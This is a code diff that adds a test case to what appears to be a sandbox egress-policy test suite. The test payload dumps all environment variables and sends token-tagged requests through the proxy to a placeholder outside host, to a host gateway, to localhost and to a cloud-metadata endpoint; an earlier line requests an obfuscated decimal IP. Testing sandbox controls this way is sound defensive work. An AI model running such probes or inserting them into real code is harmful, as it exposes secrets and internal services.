@@ -34,6 +34,26 @@ def _attack(name: str, clause: str, program: str, control: Control, at: str) -> 
     return Attack(name, 23, clause, "challenge", _ASK + program, control, won, outcomes=SUCCEEDED)
 
 
+_FROM_A_RUN = f"""
+import os, socket
+from urllib.parse import urlsplit
+for name, value in os.environ.items():
+    print(name, value)
+proxy = urlsplit(os.environ.get("http_proxy") or "http://127.0.0.1:3128")
+def ask(host, port, url):
+    answer = b""
+    try:
+        with socket.create_connection((host, port), timeout=1) as to:
+            to.sendall(f"GET {{url}} HTTP/1.1\\r\\nHost: {OTHER}\\r\\nConnection: close\\r\\n\\r\\n".encode())
+            while more := to.recv(4000):
+                answer += more
+    except OSError as error:
+        print(host, port, error)
+    print(host, port, answer.decode("latin-1"))
+ask(proxy.hostname, proxy.port, "http://{OTHER}/@TOKEN@")
+for host, port in (("10.0.2.2", @GUEST_PORT@), ("127.0.0.1", 10000), ("{METADATA}", 80)):
+    ask(host, port, "/@TOKEN@")
+"""
 _HOSTS = Control("hosts of the policy", "the proxy lets any host pass; all that is there are traps")
 
 EGRESS = [
@@ -48,6 +68,17 @@ ask("http://2852039166/@TOKEN@")
 """,
         _HOSTS,
         OTHER,
+    ),
+    Attack(
+        "a host outside the policy, from a run with network",
+        23,
+        "outside-policy",
+        "submission",
+        _FROM_A_RUN,
+        _HOSTS,
+        lambda facts: any(OTHER in where for where in facts.trapped),
+        outcomes=SUCCEEDED,
+        network=True,
     ),
     _attack(
         "a port outside the policy",
